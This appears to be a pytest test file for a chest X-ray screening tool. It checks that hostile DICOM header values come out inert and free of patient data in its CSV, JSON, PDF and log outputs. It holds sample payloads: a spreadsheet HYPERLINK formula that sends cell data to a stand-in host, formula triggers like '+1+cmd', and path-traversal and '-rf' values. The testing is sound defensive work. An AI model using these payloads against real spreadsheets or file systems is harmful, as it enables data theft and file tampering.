"""Hostile header values, scanned end to end: every output stays parseable, inert, inside OUT and free of PHI."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
import warnings
from pathlib import Path

import pandas as pd
import pytest
from pypdf import PdfReader

from cxrscreen import scan
from cxrscreen.logs import file_handle
from cxrscreen.options import ScanOptions
from cxrscreen.outputs.export import export
from cxrscreen.outputs.layout import clean
from cxrscreen.outputs.report import _NAME_RE, REPORT_DIR, report_relpath
from cxrscreen.outputs.worklist import read_csv
from cxrscreen.records import ImageRecord
from cxrscreen.safetext import FORBIDDEN, FORMULA_TRIGGERS, MAX_CELL_CHARS
from cxrscreen.state.ledger import Ledger
from cxrscreen.studies import Study
from tests.hostile import PATIENT, SAMPLE_JPEG, corrupt_jpeg, hostile_file, hostile_folder

REPO = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, random_model_path):
    """The hostile folder scanned (reports for every study) and exported at both levels."""
    root = tmp_path_factory.mktemp("hostile")
    files = hostile_folder(root / "in")
    out = root / "out"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # pydicom's own warnings about these values (see test_logs)
        result = scan(root / "in", out=out, model=random_model_path, options=ScanOptions(workers=0, reports="all"))
    export(out, root / "export_images.csv")
    export(out, root / "export_studies.csv", level="studies")
    export(out, root / "export.json", fmt="json")
    return root, files, out, result


def csv_files(root: Path, out: Path, run_dir: Path) -> dict[str, Path]:
    return {"images": out / "worklist_images.csv", "studies": out / "worklist_studies.csv",
            "new_images": run_dir / "new_images.csv", "new_studies": run_dir / "new_studies.csv",
            "export_images": root / "export_images.csv", "export_studies": root / "export_studies.csv"}


def test_every_csv_parses_back_to_one_row_per_file_or_study(hostile):
    root, files, out, result = hostile
    n_files, n_studies = len(files), len(files) - 1  # two files share a study
    for kind, path in csv_files(root, out, result.run_dir).items():
        expected = n_studies if kind.endswith("studies") else n_files
        with open(path, newline="", encoding="utf-8") as fh:  # the csv module's default field limit
            rows = list(csv.reader(fh))
        assert len(rows) - 1 == expected, kind
        assert len(path.read_text(encoding="utf-8").splitlines()) == expected + 1, kind  # no cell spans lines
        for engine in ("c", "python"):
            assert len(pd.read_csv(path, engine=engine)) == expected, (kind, engine)


def test_no_cell_holds_a_control_character_or_starts_like_a_formula(hostile):
    root, _, out, result = hostile
    numeric = {"rank", "probability", "threshold", "n_images", "n_assessable", "n_abnormal", "n_not_assessable",
               "n_error"}
    for kind, path in csv_files(root, out, result.run_dir).items():
        with open(path, newline="", encoding="utf-8") as fh:
            rows = list(csv.DictReader(fh))
        for row in rows:
            for col, cell in row.items():
                assert FORBIDDEN.search(cell) is None, (kind, col)
                assert len(cell) <= MAX_CELL_CHARS, (kind, col)
                if col in numeric:
                    assert cell == "" or isinstance(float(cell), float), (kind, col)  # a plain number
                elif cell.startswith(FORMULA_TRIGGERS):
                    assert cell[0] == "'" and cell[1:2] in FORMULA_TRIGGERS, (kind, col, cell[:20])


def by_path(df: pd.DataFrame) -> dict[str, dict[str, str]]:
    return {row["path"]: row for row in df.to_dict(orient="records")}


def test_formula_values_are_kept_but_inert(hostile):
    _, _, out, _ = hostile
    raw = by_path(pd.read_csv(out / "worklist_images.csv", dtype=str, keep_default_na=False))
    back = by_path(read_csv(out / "worklist_images.csv"))
    assert raw["formula.dcm"]["PatientID"].startswith("'=HYPERLINK(")
    assert back["formula.dcm"]["PatientID"] == '=HYPERLINK("http://x.example/?"&A1,"click")'
    assert (raw["formula.dcm"]["AccessionNumber"], back["formula.dcm"]["AccessionNumber"]) == ("'+1+cmd", "+1+cmd")
    assert raw["'=cmd.dcm"]["path"] == "'=cmd.dcm" and "=cmd.dcm" in back
    assert "new\\nline.dcm" in back  # a control character in a file name, escaped


def test_json_export_is_one_object_per_file_without_control_characters(hostile):
    root, files, _, _ = hostile
    rows = json.loads((root / "export.json").read_text(encoding="utf-8"))
    assert len(rows) == len(files)
    assert not any(FORBIDDEN.search(v) for row in rows for v in row.values() if isinstance(v, str))
    formula = next(r for r in rows if r["path"] == "formula.dcm")
    assert formula["PatientID"].startswith("=HYPERLINK(")  # JSON is data, not a spreadsheet: no guard


def test_invalid_values_are_dropped_and_noted(hostile):
    _, _, out, _ = hostile
    rows = by_path(read_csv(out / "worklist_images.csv"))

    def notes(name: str) -> set[str]:
        return set(rows[name]["qc_notes"].split(";"))

    assert rows["formula.dcm"]["StudyDate"] == "" and "invalid_tag:StudyDate" in notes("formula.dcm")
    assert rows["smashed_uid.dcm"]["SeriesInstanceUID"] == "" and "invalid_tag:SeriesInstanceUID" in notes(
        "smashed_uid.dcm")
    assert {"invalid_tag:PatientName", "invalid_tag:InstitutionName"} <= notes("huge_name.dcm")
    assert (rows["controls.dcm"]["PatientID"], rows["controls.dcm"]["AccessionNumber"]) == ("", "")
    assert {"invalid_tag:PatientID", "invalid_tag:AccessionNumber", "invalid_tag:InstitutionName",
            "invalid_tag:StudyDescription"} <= notes("controls.dcm")
    assert all(r["status"] == "ok" for r in rows.values())  # a bad value costs the value, not the film
    assert not any(n.startswith("invalid_tag") for n in notes("non_ascii.dcm") | notes("traversal_rel.dcm"))


def test_character_sets_survive_to_the_outputs(hostile):
    _, _, out, _ = hostile
    rows = by_path(read_csv(out / "worklist_images.csv"))
    assert rows["non_ascii.dcm"]["PatientID"] == "ÄÖÜ-123"
    with Ledger(out / ".cxrscreen" / "ledger.sqlite") as ledger:
        tags = {r.path: r.tags for r in ledger.records()}
    assert tags["non_ascii.dcm"]["PatientName"] == "Müller^Zoë=山田^太郎"
    assert tags["non_ascii.dcm"]["InstitutionName"] == "Hôpital Saint-Éloi"
    assert tags["latin1.dcm"]["PatientName"] == "Strauß^Jürgen"
    assert not any(FORBIDDEN.search(v) for t in tags.values() for v in t.values())
    assert max(len(v) for t in tags.values() for v in t.values()) <= 64


def test_pdf_text_has_no_control_characters_and_keeps_names(hostile):
    _, _, out, _ = hostile
    texts = {p.name: "".join(page.extract_text() for page in PdfReader(p).pages)
             for p in (out / REPORT_DIR).glob("*.pdf")}
    texts["summary.pdf"] = "".join(page.extract_text() for page in PdfReader(out / "summary.pdf").pages)
    assert all(FORBIDDEN.search(t.replace("\n", " ")) is None for t in texts.values())
    assert any("Müller, Zoë" in t for t in texts.values())  # the shared study's header (first image's name)
    assert clean("a\u202eb\x00c\r\nd") == "a b c d"


def test_report_names_stay_inside_out(hostile):
    root, _, out, _ = hostile
    assert sorted(p.name for p in root.iterdir()) == ["export.json", "export_images.csv", "export_studies.csv",
                                                        "in", "out"]
    reports = read_csv(out / "worklist_images.csv")["report"].tolist()
    assert reports and all(r.startswith(f"{REPORT_DIR}/") for r in reports)
    folder = (out / REPORT_DIR).resolve()
    for rel in reports:
        assert (out / rel).resolve().parent == folder and _NAME_RE.match(Path(rel).name)
    assert {p.name for p in out.iterdir()} == {".cxrscreen", "reports", "runs", "summary.pdf",
                                                "worklist_images.csv", "worklist_studies.csv"}


@pytest.mark.parametrize("value", ["../../../evil", "/tmp/abs", "..", "/", "-rf", "a/../../b", "C:\\x\\..\\y",
                                   "\x00../", "ÄÖÜ/../..", ""])
def test_report_name_from_any_accession_is_a_plain_file_name(value: str):
    record = ImageRecord(path="x.dcm", status="ok", tags={"AccessionNumber": value, "PatientID": value,
                                                          "StudyInstanceUID": "1.2.3"})
    rel = report_relpath(Study("1.2.3", (record,), "review"))
    folder, name = rel.split("/")
    assert folder == REPORT_DIR and _NAME_RE.match(name) and not name.startswith(("-", "."))


@pytest.mark.slow
def test_cli_quiet_log_and_stderr_hold_no_name_or_path(tmp_path: Path, random_model_path: Path):
    """A folder named like a patient, an invalid PN and UI naming her, a truncated file, and a damaged
    JPEG that libjpeg complains about on fd 2 when decoded in process (test_logs checks that capture
    itself): nothing identifying reaches stderr (which cron mails) or the log file."""
    scanned = tmp_path / "pacs export"
    folder = scanned / PATIENT
    hostile_file(folder / "bad_pn.dcm", {"PatientName": ("PN", f"{PATIENT}=X=Y=Z".encode()),
                                        "SeriesInstanceUID": ("UI", PATIENT.encode())}, patient_name=PATIENT)
    data = SAMPLE_JPEG.read_bytes()
    (folder / "truncated.dcm").write_bytes(data[: len(data) * 3 // 5])  # encapsulated, cut
    corrupt_jpeg(folder / "corrupt.dcm")
    log = tmp_path / "logs" / "scan.log"
    proc = subprocess.run([sys.executable, "-m", "cxrscreen", "scan", str(scanned), "--out", str(tmp_path / "out"),
                           "--model", str(random_model_path), "--workers", "0", "--quiet", "--log-file", str(log)],
                          cwd=REPO, capture_output=True, text=True, timeout=600)
    assert proc.returncode in (0, 1), proc.stderr
    text = log.read_text(encoding="utf-8")
    for leak in (PATIENT, "DOE", "JANE", str(scanned), "pacs export"):
        assert leak not in proc.stderr and leak not in text, leak
    assert proc.stderr == "" and proc.stdout == ""
    assert "Invalid value for VR UI: '…'" in text  # pydicom's warning, routed and scrubbed
    names = ("bad_pn.dcm", "truncated.dcm", "corrupt.dcm")
    assert any(f"file {file_handle(f'{PATIENT}/{n}')}: error:" in text for n in names)  # named by its handle only
